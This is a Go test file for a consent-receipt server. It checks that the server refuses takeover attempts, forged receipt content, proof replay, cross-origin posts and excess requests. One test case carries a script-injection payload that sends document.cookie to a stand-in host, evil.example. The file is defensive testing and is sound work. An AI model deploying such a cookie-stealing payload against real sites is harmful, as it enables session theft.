package server

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/gowebpki/jcs"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kaiconn/consent/api"
	"github.com/kaiconn/consent/consent"
	"github.com/kaiconn/consent/consentreceipt"
	"github.com/kaiconn/consent/locales/localestest"
	"github.com/kaiconn/consent/notice"
	"github.com/kaiconn/consent/receipt"
)

// The attacks of issue 8, through HTTP against the real server, opened as
// the program opens it (openData, then Start; SQLite). docs/threat-model.md
// names each and these tests.

// startReal starts the real program on a free loopback port.
func startReal(t *testing.T, edit ...func(*Config)) *Server {
	t.Helper()
	cfg := Config{Addr: "127.0.0.1:0", DataDir: t.TempDir(), WebDir: t.TempDir()}
	for _, e := range edit {
		e(&cfg)
	}
	s, err := openData(cfg, slog.New(slog.DiscardHandler))
	require.NoError(t, err)
	require.NoError(t, s.Start())
	t.Cleanup(func() { s.Close() })
	return s
}

// person is one browser: its own cookie jar, following no redirect.
type person struct {
	t    *testing.T
	base string
	c    *http.Client
}

func newPerson(t *testing.T, s *Server) *person {
	jar, err := cookiejar.New(nil)
	require.NoError(t, err)
	return &person{t: t, base: s.URL(), c: &http.Client{Jar: jar, Timeout: 10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (p *person) do(method, path string, body io.Reader, header ...string) (int, string) {
	p.t.Helper()
	req, err := http.NewRequest(method, p.base+path, body)
	require.NoError(p.t, err)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	res, err := p.c.Do(req)
	require.NoError(p.t, err)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	require.NoError(p.t, err)
	return res.StatusCode, string(b)
}

func (p *person) post(path string, form url.Values, header ...string) (int, string) {
	p.t.Helper()
	return p.do(http.MethodPost, path, strings.NewReader(form.Encode()), append([]string{"Content-Type", "application/x-www-form-urlencoded"}, header...)...)
}

// ticket renders the gate and returns the ticket of its page state.
func (p *person) ticket() string {
	p.t.Helper()
	status, page := p.do(http.MethodGet, "/consent?lang=en", nil)
	require.Equal(p.t, http.StatusOK, status)
	return gateState(p.t, page).Ticket
}

// chain downloads the person's receipts (kc_sub) and checks them as
// kaiconn-verify -chain would; nil when there are none.
func (p *person) chain(s *Server) *receipt.History {
	p.t.Helper()
	status, body := p.do(http.MethodGet, "/settings/privacy/receipts.json", nil)
	if status == http.StatusNotFound {
		return nil
	}
	require.Equal(p.t, http.StatusOK, status, body)
	var h receipt.History
	require.NoError(p.t, json.Unmarshal([]byte(body), &h))
	require.NoError(p.t, receipt.VerifyChain(h, s.keys.JWKS()))
	return &h
}

func ids(h *receipt.History) []string {
	if h == nil {
		return nil
	}
	var out []string
	for _, r := range h.Receipts {
		out = append(out, r.ID)
	}
	return out
}

func stored(t testing.TB, s *Server) int {
	t.Helper()
	n := 0
	require.NoError(t, s.store.Export(t.Context(), func(receipt.Record) error { n++; return nil }))
	return n
}

// Form path: someone else's receipt id (from kc_consent, /consent/done?r=,
// the bridge message) gets an attacker nothing of that person's chain, and
// appends nothing to it.
func TestAttackFormTakeover(t *testing.T) {
	s := startReal(t)
	victim, attacker := newPerson(t, s), newPerson(t, s)
	agree := url.Values{"lang": {"en"}, "action": {"agree"}, "adult": {"1"}, "purpose": {"push"}}

	status, _ := victim.post("/consent", with(agree, "ticket", victim.ticket()))
	require.Equal(t, http.StatusSeeOther, status)
	mine := victim.chain(s)
	require.NotNil(t, mine)
	victimID := mine.Receipts[0].ID

	t.Run("ErrClientNamedReceipt", func(t *testing.T) {
		before := stored(t, s)
		status, body := attacker.post("/consent", with(agree, "receipt", victimID))
		assert.Equal(t, http.StatusBadRequest, status, body)
		status, _ = attacker.post("/settings/privacy", url.Values{"lang": {"en"}, "action": {"save"}, "purpose": {"push", "location", "analytics"}, "receipt": {victimID}})
		assert.Equal(t, http.StatusBadRequest, status)
		assert.Nil(t, attacker.chain(s), "no cookie names the victim's receipt, so nothing of theirs is readable")
		assert.Equal(t, before, stored(t, s))
	})
	t.Run("ErrTheirConsentCookie", func(t *testing.T) {
		// kc_consent is readable by every script of the site; its receipt
		// id joins nothing.
		status, _ := victim.post("/banner/consent", url.Values{"lang": {"en"}, "action": {"accept"}})
		require.Equal(t, http.StatusSeeOther, status)
		u, _ := url.Parse(s.URL())
		for _, c := range victim.c.Jar.Cookies(u) {
			if c.Name == consentCookieName {
				attacker.c.Jar.SetCookies(u, []*http.Cookie{{Name: c.Name, Value: c.Value}})
			}
		}
		status, _ = attacker.post("/banner/consent", url.Values{"lang": {"en"}, "action": {"accept"}})
		require.Equal(t, http.StatusSeeOther, status)
		theirs := attacker.chain(s)
		require.NotNil(t, theirs)
		assert.NotEqual(t, mine.Subject, theirs.Subject)
		assert.NotContains(t, ids(theirs), victimID)
	})
	t.Run("OKVictimStillAppends", func(t *testing.T) {
		status, _ := victim.post("/settings/privacy", url.Values{"lang": {"en"}, "action": {"withdraw-all"}})
		require.Equal(t, http.StatusSeeOther, status)
		h := victim.chain(s)
		require.Len(t, h.Receipts, 3, "the gate, the banner and now the withdrawal: nobody else's")
		assert.Equal(t, mine.Subject, h.Subject)
		assert.Equal(t, victimID, h.Receipts[0].ID)
		env, err := receipt.Decode(h.Receipts[2].Envelope)
		require.NoError(t, err)
		assert.Equal(t, receipt.DecisionWithdrawn, env.Receipt.Decision)
	})
}

// realReceipt signs a first-launch decision of subject chained to prev, as
// the browser's outbox builds it from the catalogue (v2, or v1 when v1).
func realReceipt(t *testing.T, s *Server, signer receipt.Signer, subject, prev string, v1 bool, edit func(*receipt.Params)) *receipt.Signed {
	t.Helper()
	cat := s.catalogues[localestest.Base]
	d, err := consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push"}, consent.LangEn, time.Now().Add(-time.Minute))
	require.NoError(t, err)
	sha, _ := s.policyHash(cat.Version(), consent.LangEn)
	m := consentreceipt.Meta{ReceiptID: uuid.NewString(), PolicySHA256: sha}
	if v1 {
		m.Purposes = consentreceipt.Purposes(cat, consent.SurfaceFirstLaunch, consent.LangEn)
	} else {
		m.Notice = notice.For(cat, consent.SurfaceFirstLaunch, consent.LangEn)
	}
	p, err := consentreceipt.Params(d, m, subject, prev)
	require.NoError(t, err)
	if edit != nil {
		edit(&p)
	}
	signed, err := receipt.Sign(receipt.New(p), signer)
	require.NoError(t, err)
	return signed
}

func (p *person) postReceipt(s *receipt.Signed, header ...string) (int, string) {
	p.t.Helper()
	b, err := json.Marshal(s)
	require.NoError(p.t, err)
	return p.do(http.MethodPost, "/api/v1/receipts", bytes.NewReader(b), append([]string{"Content-Type", "application/json"}, header...)...)
}

// Device path: reading a receipt by id tells nothing to append with, and a
// fresh key cannot append to someone's subject even knowing it and its
// head; the person's own next receipt still lands.
func TestAttackDeviceTakeover(t *testing.T) {
	s := startReal(t)
	victim, attacker := newPerson(t, s), newPerson(t, s)
	victimKey := receipt.GenerateEd25519Signer()
	subject := receipt.NewSubject()
	first := realReceipt(t, s, victimKey, subject, "", false, nil)
	status, body := victim.postReceipt(first)
	require.Equal(t, http.StatusCreated, status, body)
	var ack api.Ack
	require.NoError(t, json.Unmarshal([]byte(body), &ack))

	t.Run("ErrAnonymousReadTellsNothing", func(t *testing.T) {
		status, body := attacker.do(http.MethodGet, "/api/v1/receipts/"+first.Receipt.ID, nil)
		require.Equal(t, http.StatusOK, status)
		var got map[string]any
		require.NoError(t, json.Unmarshal([]byte(body), &got))
		assert.ElementsMatch(t, []string{"id", "receivedAt"}, keysOf(got))
		for _, secret := range []string{subject, ack.Hash, first.Device.JWK.X} {
			assert.NotContains(t, body, secret)
		}
	})
	before := stored(t, s)
	t.Run("ErrFreshKeyEvenKnowingSubjectAndHead", func(t *testing.T) {
		forged := realReceipt(t, s, receipt.GenerateEd25519Signer(), subject, ack.Hash, false, func(p *receipt.Params) {
			p.Decision = receipt.DecisionUpdated
		})
		status, body := attacker.postReceipt(forged)
		assert.Equal(t, http.StatusUnprocessableEntity, status)
		assert.Contains(t, body, "receipt.prevHash: not the head of this subject's chain for this key")
		// Its key is not enrolled, so it reads nothing either.
		status, _ = attacker.do(http.MethodGet, "/api/v1/subjects/"+subject+"/receipts", nil,
			"Authorization", proofFor(t, attacker, subject, receipt.GenerateEd25519Signer()))
		assert.Equal(t, http.StatusForbidden, status)
		assert.Equal(t, before, stored(t, s), "nothing stored")
	})
	t.Run("OKVictimsNextReceiptLands", func(t *testing.T) {
		next := realReceipt(t, s, victimKey, subject, ack.Hash, false, nil)
		status, body := victim.postReceipt(next)
		require.Equal(t, http.StatusCreated, status, body, "never 'chain broken' for the person")
		status, body = victim.do(http.MethodGet, "/api/v1/subjects/"+subject+"/receipts", nil, "Authorization", proofFor(t, victim, subject, victimKey))
		require.Equal(t, http.StatusOK, status, body)
		var h receipt.History
		require.NoError(t, json.Unmarshal([]byte(body), &h))
		require.NoError(t, receipt.VerifyChain(h, s.keys.JWKS()))
		assert.Equal(t, []string{first.Receipt.ID, next.Receipt.ID}, ids(&h))
	})
}

func keysOf(m map[string]any) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// proofFor is a KaiconnProof by signer for subject over a fresh nonce.
func proofFor(t *testing.T, p *person, subject string, signer receipt.Signer) string {
	t.Helper()
	status, body := p.do(http.MethodGet, "/api/v1/nonce", nil)
	require.Equal(t, http.StatusOK, status)
	var n api.Nonce
	require.NoError(t, json.Unmarshal([]byte(body), &n))
	cred, err := receipt.SignHistoryProof(subject, time.Now(), n.Nonce, signer)
	require.NoError(t, err)
	return receipt.ProofScheme + " " + cred
}

// Every content forgery of the issue, v1 and v2: 422 naming the member,
// and nothing stored. Each is signed by a fresh device for a fresh subject,
// so only its content is at fault.
func TestAttackContentForgeries(t *testing.T) {
	s := startReal(t)
	p := newPerson(t, s)
	cat := s.catalogues[localestest.Base]
	purpose := func(ps []receipt.PurposeParams, id string) *receipt.PurposeParams {
		for i := range ps {
			if ps[i].ID == id {
				return &ps[i]
			}
		}
		t.Fatalf("no purpose %s", id)
		return nil
	}
	giveAll := func(pp *receipt.Params) {
		for i := range pp.Purposes {
			pp.Purposes[i].State, pp.Purposes[i].ExpiresAt = receipt.StateGiven, pp.IssuedAt.Add(consentreceipt.Validity)
		}
	}
	for _, tt := range []struct {
		name   string
		v1     bool
		edit   func(*receipt.Params)
		member string
	}{
		{"V1Recipient", true, func(pp *receipt.Params) { purpose(pp.Purposes, "push").Recipient = "Evil Corp — everything SDK" }, "receipt.purposes[4].recipient"},
		{"V1DataCategories", true, func(pp *receipt.Params) { purpose(pp.Purposes, "push").DataCategories = []string{"nothing at all"} }, "receipt.purposes[4].dataCategories"},
		{"V1WithdrawScript", true, func(pp *receipt.Params) {
			purpose(pp.Purposes, "push").WithdrawText = `<script>fetch("//evil.example/"+document.cookie)</script>`
		}, "receipt.purposes[4].withdraw.text"},
		// 55 KB of junk: with the v1 receipt around it the body stays under the
		// API's 64 KiB limit, so the content check, not the size check, refuses it
		// (a larger body gets 413, api.TestPostReceipt/ErrTooLarge).
		{"V1WithdrawJunk", true, func(pp *receipt.Params) { purpose(pp.Purposes, "push").WithdrawText = strings.Repeat("junk ", 11000) }, "receipt.purposes[4].withdraw.text"},
		{"V1DeclinedGivesAll", true, func(pp *receipt.Params) { pp.Decision = receipt.DecisionDeclined; giveAll(pp) }, "receipt.purposes[0].state"},
		{"V1RequiredRefused", true, func(pp *receipt.Params) {
			b := purpose(pp.Purposes, "basic")
			b.State, b.ExpiresAt = receipt.StateRefused, time.Time{}
		}, "receipt.purposes[1].state"},
		{"V1WebCategoryInAppReceipt", true, func(pp *receipt.Params) { purpose(pp.Purposes, "location").ID = "preferences" }, "receipt.purposes[3].id"},
		{"V1RefusedWithExpiry", true, func(pp *receipt.Params) {
			purpose(pp.Purposes, "location").ExpiresAt = pp.IssuedAt.Add(consentreceipt.Validity)
		}, "receipt.purposes[3].expiresAt"},
		{"V2DeclinedGivesAll", false, func(pp *receipt.Params) { pp.Decision = receipt.DecisionDeclined; giveAll(pp) }, "receipt.purposes[0].state"},
		{"V2RequiredRefused", false, func(pp *receipt.Params) {
			b := purpose(pp.Purposes, "basic")
			b.State, b.ExpiresAt = receipt.StateRefused, time.Time{}
		}, "receipt.purposes[1].state"},
		{"V2WebCategoryInAppReceipt", false, func(pp *receipt.Params) { purpose(pp.Purposes, "location").ID = "preferences" }, "receipt.purposes[3].id"},
		{"V2ExpiryTooLate", false, func(pp *receipt.Params) {
			purpose(pp.Purposes, "push").ExpiresAt = pp.IssuedAt.Add(10 * consentreceipt.Validity)
		}, "receipt.purposes[4].expiresAt"},
		{"V2NoticeOfAnotherText", false, func(pp *receipt.Params) { pp.Notice = notice.For(cat, consent.SurfaceWebBanner, consent.LangEn) }, "receipt.notice"},
		{"V2NoticeOfAnotherLanguage", false, func(pp *receipt.Params) { pp.Notice = notice.For(cat, consent.SurfaceFirstLaunch, consent.LangZhHans) }, "receipt.notice"},
		{"V2PurposeMissing", false, func(pp *receipt.Params) { pp.Purposes = pp.Purposes[:len(pp.Purposes)-1] }, "receipt.purposes"},
		{"V2OutOfOrder", false, func(pp *receipt.Params) { pp.Purposes[0], pp.Purposes[1] = pp.Purposes[1], pp.Purposes[0] }, "receipt.purposes[0].id"},
		{"V2WithdrawalOfWhatWasNeverGiven", false, func(pp *receipt.Params) {
			pp.Decision = receipt.DecisionWithdrawn
			l := purpose(pp.Purposes, "location")
			l.State = receipt.StateWithdrawn
		}, "receipt.purposes[3].state"},
		{"V2ConfirmedFactNobodyAsked", false, func(pp *receipt.Params) { pp.Confirmed = []string{"age-16"} }, "receipt.confirmed[0]"},
		{"V2AgeConfirmedOnDecline", false, func(pp *receipt.Params) {
			pp.Decision = receipt.DecisionDeclined
			pp.Confirmed = []string{"age-18"}
		}, "receipt.confirmed"},
		{"V2IssuedLongAgo", false, func(pp *receipt.Params) {
			pp.IssuedAt = pp.IssuedAt.Add(-40 * 24 * time.Hour)
			for i := range pp.Purposes {
				if !pp.Purposes[i].ExpiresAt.IsZero() {
					pp.Purposes[i].ExpiresAt = pp.IssuedAt.Add(consentreceipt.Validity)
				}
			}
		}, "receipt.issuedAt"},
		{"V2IssuedInTheFuture", false, func(pp *receipt.Params) {
			pp.IssuedAt = pp.IssuedAt.Add(time.Hour)
			for i := range pp.Purposes {
				if !pp.Purposes[i].ExpiresAt.IsZero() {
					pp.Purposes[i].ExpiresAt = pp.IssuedAt.Add(consentreceipt.Validity)
				}
			}
		}, "receipt.issuedAt"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := stored(t, s)
			forged := realReceipt(t, s, receipt.GenerateEd25519Signer(), receipt.NewSubject(), "", tt.v1, tt.edit)
			status, body := p.postReceipt(forged)
			require.Equal(t, http.StatusUnprocessableEntity, status, body)
			var e struct {
				Error struct{ Code, Message string }
			}
			require.NoError(t, json.Unmarshal([]byte(body), &e))
			assert.True(t, strings.HasPrefix(e.Error.Message, tt.member+":"), "%q names %s", e.Error.Message, tt.member)
			assert.Equal(t, before, stored(t, s), "nothing stored")
			status, _ = p.do(http.MethodGet, "/api/v1/receipts/"+forged.Receipt.ID, nil)
			assert.Equal(t, http.StatusNotFound, status)
		})
	}
	// In kaiconn-receipt/2 an expiry on a purpose not given, or none on a
	// given one, is not even the format (expiresAt is present if and only if
	// the state is given): the reader refuses it as malformed, 400, naming
	// the member, before any check of content.
	for _, tt := range []struct {
		name, purpose, member string
		edit                  func(p map[string]any, issued string)
	}{
		{"V2RefusedWithExpiry", "location", "receipt.purposes[3].expiresAt", func(p map[string]any, issued string) { p["expiresAt"] = issued }},
		{"V2GivenWithoutExpiry", "push", "receipt.purposes[4].expiresAt", func(p map[string]any, _ string) { delete(p, "expiresAt") }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := stored(t, s)
			key := receipt.GenerateEd25519Signer()
			signed := realReceipt(t, s, key, receipt.NewSubject(), "", false, nil)
			body := forge(t, signed, key, func(r map[string]any) {
				for _, x := range r["purposes"].([]any) {
					if m := x.(map[string]any); m["id"] == tt.purpose {
						tt.edit(m, r["issuedAt"].(string))
					}
				}
			})
			status, res := p.do(http.MethodPost, "/api/v1/receipts", bytes.NewReader(body), "Content-Type", "application/json")
			require.Equal(t, http.StatusBadRequest, status, res)
			assert.Contains(t, res, tt.member)
			assert.Equal(t, before, stored(t, s), "nothing stored")
		})
	}
	t.Run("OKTheUnforgedOnesPass", func(t *testing.T) {
		for _, v1 := range []bool{true, false} {
			status, body := p.postReceipt(realReceipt(t, s, receipt.GenerateEd25519Signer(), receipt.NewSubject(), "", v1, nil))
			assert.Equal(t, http.StatusCreated, status, body)
		}
	})
}

// forge edits a signed receipt's JSON as a hand-written client could, and
// signs the result with key: the device signature is good, only the content
// is forged.
func forge(t *testing.T, s *receipt.Signed, key receipt.Signer, edit func(r map[string]any)) []byte {
	t.Helper()
	b, err := json.Marshal(s)
	require.NoError(t, err)
	var env map[string]any
	require.NoError(t, json.Unmarshal(b, &env))
	r := env["receipt"].(map[string]any)
	edit(r)
	raw, err := json.Marshal(r)
	require.NoError(t, err)
	canon, err := jcs.Transform(raw)
	require.NoError(t, err)
	sig, err := key.Sign(canon)
	require.NoError(t, err)
	env["device"].(map[string]any)["sig"] = base64.RawURLEncoding.EncodeToString(sig)
	out, err := json.Marshal(env)
	require.NoError(t, err)
	return out
}

// A proof is good once: replayed, it is refused with a fresh challenge.
func TestAttackProofReplay(t *testing.T) {
	s := startReal(t)
	p := newPerson(t, s)
	key := receipt.GenerateEd25519Signer()
	subject := receipt.NewSubject()
	status, body := p.postReceipt(realReceipt(t, s, key, subject, "", false, nil))
	require.Equal(t, http.StatusCreated, status, body)
	auth := proofFor(t, p, subject, key)
	path := "/api/v1/subjects/" + subject + "/receipts"
	status, _ = p.do(http.MethodGet, path, nil, "Authorization", auth)
	require.Equal(t, http.StatusOK, status)
	req, err := http.NewRequest(http.MethodGet, s.URL()+path, nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", auth)
	res, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	res.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode, "the same proof, a second time")
	assert.Contains(t, res.Header.Get("WWW-Authenticate"), `KaiconnProof nonce="`)
}

// A page of another origin cannot post a decision for a visitor, and the
// form posts and the API have a budget.
func TestAttackOriginAndRate(t *testing.T) {
	t.Run("ErrForeignOrNullOrigin", func(t *testing.T) {
		s := startReal(t)
		p := newPerson(t, s)
		for _, origin := range []string{"https://evil.example", "null"} {
			for _, path := range []string{"/consent", "/settings/privacy", "/banner/consent"} {
				status, _ := p.post(path, url.Values{"lang": {"en"}, "action": {"decline"}}, "Origin", origin)
				assert.Equal(t, http.StatusForbidden, status, "%s from %s", path, origin)
			}
		}
		assert.Nil(t, p.chain(s), "nothing recorded, no cookie")
	})
	t.Run("ErrRateLimited", func(t *testing.T) {
		s := startReal(t, func(c *Config) { c.FormRateLimit, c.FormSubjectRateLimit, c.RateLimit = 3, -1, 3 })
		p := newPerson(t, s)
		var codes []int
		for range 4 {
			status, _ := p.post("/banner/consent", url.Values{"lang": {"en"}, "action": {"reject"}})
			codes = append(codes, status)
		}
		assert.Equal(t, []int{http.StatusSeeOther, http.StatusSeeOther, http.StatusSeeOther, http.StatusTooManyRequests}, codes)
		codes = nil
		for range 4 {
			status, _ := p.do(http.MethodGet, "/api/v1/nonce", nil)
			codes = append(codes, status)
		}
		assert.Equal(t, []int{http.StatusOK, http.StatusOK, http.StatusOK, http.StatusTooManyRequests}, codes, "the API's own budget")
	})
}
